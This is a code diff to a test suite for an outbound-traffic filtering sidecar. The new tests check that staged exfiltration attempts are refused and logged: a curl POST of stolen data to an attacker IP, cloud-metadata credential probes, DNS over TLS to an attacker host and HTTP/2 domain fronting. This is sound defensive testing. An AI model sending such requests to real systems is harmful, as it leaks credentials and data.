@@ -138,6 +138,9 @@ class World:
     gateway_ca: Path
     upstream_ca: Path
     ipv6_listeners: bool
+    # Listeners on the provider's own address, on ports its entry does not list (80
+    # plain, 8443 TLS): what audit mode forwards there is recorded (issue 11).
+    beside_provider: Attacker
 
     # running things in the pod
 
@@ -336,6 +339,8 @@ def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
             udp = socket.SOCK_DGRAM
             socks = {
                 "provider": listening_socket(PROVIDER_V4, 443),
+                "beside/80": listening_socket(PROVIDER_V4, 80),
+                "beside/8443": listening_socket(PROVIDER_V4, 8443),
                 "upstream-dns": listening_socket(PROVIDER_V4, 53, udp),
             }
             for address in (ATTACKER_V4, ATTACKER_V6):
@@ -349,6 +354,10 @@ def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
         socks = in_netns(pod.net, make_sockets)
         stack.callback(lambda: [s.close() for s in socks.values()])
         provider = NetnsProvider(bg, test_ca, [PROVIDER_HOST], socks["provider"]).start()
+        beside_provider = Attacker(bg, test_ca, [PROVIDER_HOST])
+        stack.callback(beside_provider.stop)
+        beside_provider.serve_tcp(socks["beside/80"], tls=False)
+        beside_provider.serve_tcp(socks["beside/8443"], tls=True)
         stack.callback(provider.stop)
         upstream = NetnsDNS(bg, socks["upstream-dns"]).start()
         stack.callback(upstream.stop)
@@ -392,6 +401,7 @@ def world(bg: BackgroundLoop, test_ca: trustme.CA) -> Iterator[World]:
             gateway_ca=gateway_ca,
             upstream_ca=upstream_ca,
             ipv6_listeners=ipv6_listeners,
+            beside_provider=beside_provider,
         )
 
 
@@ -471,6 +481,13 @@ def _gateway_headers() -> list[str]:
 def _received(world: World, headers: list[str]) -> list[Any]:
     marker = headers[1].split(": ", 1)[1]
     return [r for r in world.provider.received if r.headers.get("x-test-marker") == marker]
+
+
+def _assert_handshake_refused(got: Curl) -> None:
+    """The sidecar refused at the TLS ClientHello: no handshake, no HTTP answer at all."""
+    assert got.exit != 0 and got.status == 0, got
+    assert "SSL" in got.stderr or "TLS" in got.stderr, got
+    assert ATTACKER_BANNER.decode() not in got.body
 
 
 def _assert_refused_by_sidecar(got: Curl, reason: str | set[str]) -> str:
@@ -562,8 +579,10 @@ def test_direct_tcp_to_attacker_ip_443(world: World) -> None:
     """TLS straight to the attacker's IP (no SNI, an IP literal): refused, never dialled."""
     mark = world.mark()
     got = world.curl(f"https://{ATTACKER_V4}/upload", "-k", "-d", "stolen=1")
-    reason = _assert_refused_by_sidecar(got, NO_SNI_REASONS)
-    world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V4, port=443,
+    _assert_handshake_refused(got)  # refused at the ClientHello (issue 11)
+    refused = world.wait_decision(mark, host=ATTACKER_V4, port=443, mode="transparent")
+    assert refused["reason"] in NO_SNI_REASONS, refused
+    world.assert_refused_and_alerted(mark, refused["reason"], host=ATTACKER_V4, port=443,
                                      mode="transparent")  # fmt: skip
     # Raw bytes (neither TLS nor HTTP): held by the sidecar, nothing comes back.
     raw_mark = world.mark()
@@ -598,7 +617,7 @@ def test_tls_to_attacker_ip_with_allowed_sni(world: World) -> None:
         f"https://{PROVIDER_HOST}/v1/models", "-k",
         "--resolve", f"{PROVIDER_HOST}:443:{ATTACKER_V4}", *headers,
     )  # fmt: skip
-    _assert_refused_by_sidecar(got, "destination_mismatch")
+    _assert_handshake_refused(got)  # refused at the ClientHello (issue 11)
     world.assert_refused_and_alerted(mark, "destination_mismatch", host=PROVIDER_HOST,
                                      mode="transparent")  # fmt: skip
     world.assert_attacker_saw_nothing(mark)  # so no request, and no key, reached it
@@ -680,8 +699,10 @@ def test_ipv6_to_attacker_blocked(world: World) -> None:
         assert got.status in (0, 403), got  # refused by the sidecar, or no listener
         assert ATTACKER_BANNER.decode() not in got.body
     if world.ipv6_listeners:  # else no listener: refused by the kernel (see the fixture)
-        assert attempts[0].reason in NO_SNI_REASONS, attempts[0]
-        assert [a.reason for a in attempts[1:]] == ["private_address", "destination_mismatch"]
+        _assert_handshake_refused(attempts[0])  # TLS: refused at the ClientHello
+        _assert_handshake_refused(attempts[2])
+        assert attempts[1].reason == "private_address", attempts[1]
+        world.wait_decision(mark, reason="destination_mismatch", host=PROVIDER_HOST)
     dns = world.probe("dns", ATTACKER_V6, "unlisted-v6.example", "AAAA")
     assert dns.get("rcode") in (None, "REFUSED"), dns  # never the attacker's answer
     assert world.attacker.dns_questions == []
@@ -697,7 +718,9 @@ def test_ipv6_attempts_are_decided_and_logged(world: World) -> None:
     assert world.ipv6_listeners, "the sidecar could not bind [::1] listeners"
     mark = world.mark()
     got = world.curl(f"https://[{ATTACKER_V6}]/upload", "-k", "-g")
-    reason = _assert_refused_by_sidecar(got, NO_SNI_REASONS)
+    _assert_handshake_refused(got)
+    reason = world.wait_decision(mark, host=ATTACKER_V6)["reason"]
+    assert reason in NO_SNI_REASONS
     world.assert_refused_and_alerted(mark, reason, host=ATTACKER_V6)
     plain = world.curl(f"http://[{ATTACKER_V6}]/collect", "-g")
     _assert_refused_by_sidecar(plain, "private_address")
@@ -728,8 +751,10 @@ def test_metadata_address_blocked(world: World) -> None:
     got = world.curl(f"http://{METADATA_V4}/latest/meta-data/iam/security-credentials/")
     _assert_refused_by_sidecar(got, "metadata_address")
     world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=80)
+    tls_mark = world.mark()
     tls = world.curl(f"https://{METADATA_V4}/", "-k")  # TLS, no SNI
-    _assert_refused_by_sidecar(tls, {"metadata_address", "protocol_not_allowed"})
+    _assert_handshake_refused(tls)
+    world.assert_refused_and_alerted(tls_mark, "metadata_address", host=METADATA_V4, port=443)
     world.assert_attacker_saw_nothing(mark)
 
 
@@ -772,6 +797,7 @@ def test_tls_without_sni_is_refused(world: World) -> None:
 
     Issue 4: no SNI is refused unless a policy entry allows that TCP destination.
     Found while writing this suite: the Host header inside TLS used to stand in.
+    Issue 11: refused at the ClientHello, so the Host header is never even read.
     """
     mark = world.mark()
     headers = _gateway_headers()
@@ -779,8 +805,10 @@ def test_tls_without_sni_is_refused(world: World) -> None:
         f"https://{PROVIDER_V4}/v1/models", "-k", "-H", f"Host: {PROVIDER_HOST}", *headers
     )
     assert _received(world, headers) == [], "forwarded a TLS connection that had no SNI"
-    _assert_refused_by_sidecar(got, "protocol_not_allowed")
-    world.assert_refused_and_alerted(mark, "protocol_not_allowed", host=PROVIDER_HOST)
+    _assert_handshake_refused(got)
+    reason = world.wait_decision(mark, host=PROVIDER_V4, port=443)["reason"]
+    assert reason in NO_SNI_REASONS
+    world.assert_refused_and_alerted(mark, reason, host=PROVIDER_V4)
 
 
 def test_sidecar_binds_ipv6_listeners(world: World) -> None:
@@ -845,3 +873,215 @@ def test_gateway_binding_admin_port_while_sidecar_is_down_cannot_answer_probes(
             with pytest.raises(RuntimeError, match="another process holds this port"):
                 restarted.start(timeout=30)
             restarted.stop()
+# --- issue 11: every accepted connection ends with one decision line -----------------
+
+# A DNS-over-TCP framed query for leak.ex (escaped for probes.py).
+DOT_QUERY = (
+    "\\x00\\x1d\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
+    "\\x04leak\\x02ex\\x00\\x00\\x01\\x00\\x01"
+)
+
+
+def _tls_probe(world: World, host: str, port: int, sni: str, payload: str) -> dict[str, Any]:
+    return world.probe("tls", host, str(port), sni, payload)
+
+
+def _lines_for(world: World, mark: Mark, probe: dict[str, Any], settle: float = 3) -> list[Any]:
+    """Every decision line for the probe's connection, once none has come for `settle` s
+    (bounded: the connection is closed when the probe returns)."""
+    client = f"{POD_V4}:{probe['local_port']}"
+    deadline = time.monotonic() + 20
+    seen, quiet_since = -1, time.monotonic()
+    while time.monotonic() < deadline:
+        found = world.decisions_since(mark, client=client)
+        if len(found) != seen:
+            seen, quiet_since = len(found), time.monotonic()
+        elif found and time.monotonic() - quiet_since > settle:
+            return found
+        time.sleep(0.05)
+    return world.decisions_since(mark, client=client)
+
+
+def test_dns_over_tls_to_attacker_is_refused_at_the_client_hello(world: World) -> None:
+    """DNS over TLS (:853) to the attacker: no handshake, one line, an alert."""
+    mark = world.mark()
+    probe = _tls_probe(world, ATTACKER_V4, 853, "dns.attacker.example", DOT_QUERY)
+    assert probe["connected"] and not probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "host_not_allowed" and line["port"] == 853, line
+    assert line["host"] == "dns.attacker.example" and "ClientHello" in line["detail"]
+    world.assert_refused_and_alerted(mark, "host_not_allowed", host="dns.attacker.example")
+    world.assert_attacker_saw_nothing(mark)
+
+
+def test_metadata_probe_over_tls_with_google_sni_is_metadata_address(world: World) -> None:
+    """TLS to 169.254.169.254:443 naming metadata.google.internal: metadata_address."""
+    mark = world.mark()
+    request = "GET /computeMetadata/v1/ HTTP/1.1\\r\\nHost: metadata.google.internal\\r\\n\\r\\n"
+    probe = _tls_probe(world, METADATA_V4, 443, "metadata.google.internal", request)
+    assert not probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "metadata_address" and line["decision"] == "block", line
+    assert line["host"] == METADATA_V4 and "metadata.google.internal" in line["detail"]
+    world.assert_refused_and_alerted(mark, "metadata_address", host=METADATA_V4, port=443)
+    # The same probe in plain HTTP, the name only in Host: metadata_address too.
+    plain_mark = world.mark()
+    got = world.curl(f"http://{METADATA_V4}/computeMetadata/v1/",
+                     "-H", "Host: metadata.google.internal")  # fmt: skip
+    _assert_refused_by_sidecar(got, "metadata_address")
+    world.assert_refused_and_alerted(plain_mark, "metadata_address", host=METADATA_V4, port=80)
+
+
+def test_tls_without_sni_then_junk_is_refused_and_logged(world: World) -> None:
+    mark = world.mark()
+    probe = _tls_probe(world, ATTACKER_V4, 443, "-", "\\x00\\x01junk-after-tls\\r\\n")
+    assert not probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] in NO_SNI_REASONS and line["host"] == ATTACKER_V4, line
+    world.assert_refused_and_alerted(mark, line["reason"], host=ATTACKER_V4)
+    world.assert_attacker_saw_nothing(mark)
+
+
+@pytest.mark.parametrize(
+    ("case", "payload"),
+    [("junk", "\\x00\\x1d\\x12\\x34 not http at all\\r\\n\\r\\n"), ("nothing", "-")],
+)
+def test_allowed_tls_without_a_request_is_logged_once(
+    world: World, case: str, payload: str
+) -> None:
+    """Right name, right address, handshake done, then no HTTP request: one line when
+    the connection ends (it used to leave no trace at all)."""
+    mark = world.mark()
+    received = len(world.provider.received)
+    probe = _tls_probe(world, PROVIDER_V4, 443, PROVIDER_HOST, payload)
+    assert probe["handshake"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "protocol_not_allowed" and line["decision"] == "block", line
+    assert line["host"] == PROVIDER_HOST and line["port"] == 443
+    assert line["detail"].startswith("TLS connection ended without an HTTP request"), case
+    world.assert_refused_and_alerted(mark, "protocol_not_allowed", host=PROVIDER_HOST)
+    assert len(world.provider.received) == received
+
+
+def test_tls_connection_with_a_request_gets_only_the_request_line(world: World) -> None:
+    """No double logging: a connection that carried a request ends with that line only."""
+    mark = world.mark()
+    request = (
+        f"GET /v1/models HTTP/1.1\\r\\nHost: {PROVIDER_HOST}\\r\\n"
+        "Connection: close\\r\\n\\r\\n"
+    )
+    probe = _tls_probe(world, PROVIDER_V4, 443, PROVIDER_HOST, request)
+    assert probe["handshake"] and "gpt-fake" in probe["reply"], probe
+    lines = _lines_for(world, mark, probe)
+    assert [(d["decision"], d["reason"]) for d in lines] == [("allow", "allowed")], lines
+
+
+# --- issue 11: audit mode never puts the key on a would_block request ----------------
+
+
+@contextlib.contextmanager
+def _policy_mode(world: World, mode: str) -> Iterator[None]:
+    """Reload the pod's policy in `mode`, and back to enforce afterwards (bounded waits)."""
+    policy = world.work / "policy.yaml"
+    original = policy.read_text()
+
+    def load(text: str, want: str) -> None:
+        after = len(world.sidecar.events)
+        policy.write_text(text)
+        deadline = time.monotonic() + 30
+        while time.monotonic() < deadline:
+            if any(e.get("event") == "policy_loaded" and e.get("mode") == want
+                   for e in world.sidecar.events[after:]):  # fmt: skip
+                return
+            time.sleep(0.1)
+        raise AssertionError(f"the sidecar did not reload the policy in {want} mode")
+
+    load(original.replace("mode: enforce", f"mode: {mode}"), mode)
+    try:
+        yield
+    finally:
+        load(original, "enforce")
+
+
+def _no_key_in(data: bytes | str) -> None:
+    text = data if isinstance(data, str) else data.decode("latin-1")
+    assert PROVIDER_KEY not in text, "the provider key went out on a would_block request"
+    assert GATEWAY_DUMMY_KEY not in text, "the gateway's credential was not stripped"
+
+
+def _beside(world: World, headers: list[str], port: int) -> bytes:
+    marker = headers[1].split(": ", 1)[1].encode()
+    found = [
+        seen.data for seen in world.beside_provider.seen
+        if seen.kind == "request" and seen.local == f"{PROVIDER_V4}:{port}" and marker in seen.data
+    ]  # fmt: skip
+    assert len(found) == 1, "the request did not reach the listener (the test would pass blind)"
+    return found[0]
+
+
+def test_audit_mode_would_block_requests_carry_no_key(world: World) -> None:
+    """Transparent, audit mode: port_not_allowed in cleartext (:80) and over TLS (:8443)
+    and path_not_allowed pass as would_block, and none carries the provider key; the
+    allowed control does."""
+    with _policy_mode(world, "audit"):
+        mark = world.mark()
+        control = _gateway_headers()
+        got = world.curl(f"https://{PROVIDER_HOST}/v1/models", "--cacert",
+                         str(world.gateway_ca), *control)  # fmt: skip
+        assert got.status == 200, got
+        [allowed] = _received(world, control)
+        assert allowed.headers["authorization"] == f"Bearer {PROVIDER_KEY}"  # control
+
+        cleartext = _gateway_headers()
+        got = world.curl(f"http://{PROVIDER_HOST}/v1/models", *cleartext)
+        assert got.status == 200 and ATTACKER_BANNER.decode() in got.body, got  # it passed
+        _no_key_in(_beside(world, cleartext, 80))
+
+        tls_other_port = _gateway_headers()
+        got = world.curl(f"https://{PROVIDER_HOST}:8443/v1/models", "--cacert",
+                         str(world.gateway_ca), *tls_other_port)  # fmt: skip
+        assert got.status == 200, got
+        _no_key_in(_beside(world, tls_other_port, 8443))
+
+        path = _gateway_headers()
+        got = world.curl(f"https://{PROVIDER_HOST}/admin/keys", "--cacert",
+                         str(world.gateway_ca), *path)  # fmt: skip
+        [received] = _received(world, path)
+        _no_key_in(str(received.headers))
+
+        for port, reason in ((80, "port_not_allowed"), (8443, "port_not_allowed"),
+                             (443, "path_not_allowed")):  # fmt: skip
+            line = world.wait_decision(mark, port=port, reason=reason, host=PROVIDER_HOST)
+            assert line["decision"] == "would_block", line
+            assert line["detail"].endswith("provider key not added"), line
+
+
+# --- issue 11: HTTP/2 :authority and host that disagree ------------------------------
+
+
+def _h2_probe(world: World, authority: str, host_header: str) -> dict[str, Any]:
+    script = Path(__file__).with_name("h2_probe.py")
+    proc = world.run(str(VENV_BIN / "python"), str(script), PROVIDER_V4, "443",
+                     PROVIDER_HOST, authority, host_header, uid=0)  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    return dict(json.loads(proc.stdout))
+
+
+def test_h2_authority_and_host_disagreeing_is_host_mismatch(world: World) -> None:
+    """Domain fronting in HTTP/2 through the transparent listener: the h2 library kills
+    the connection; the attempt is host_mismatch, logged once and alerted."""
+    control_mark = world.mark()
+    control = _h2_probe(world, PROVIDER_HOST, PROVIDER_HOST)
+    assert control["alpn"] == "h2" and control["status"] == "200", control
+    assert [d["reason"] for d in _lines_for(world, control_mark, control)] == ["allowed"]
+
+    mark = world.mark()
+    received = len(world.provider.received)
+    probe = _h2_probe(world, PROVIDER_HOST, "exfil.attacker.example")
+    assert probe["status"] is None and probe["terminated"], probe
+    [line] = _lines_for(world, mark, probe)
+    assert line["reason"] == "host_mismatch" and line["host"] == PROVIDER_HOST, line
+    assert "exfil.attacker.example" in line["detail"] and line["mode"] == "transparent"
+    world.assert_refused_and_alerted(mark, "host_mismatch", host=PROVIDER_HOST)
+    assert len(world.provider.received) == received
+    world.assert_attacker_saw_nothing(mark)
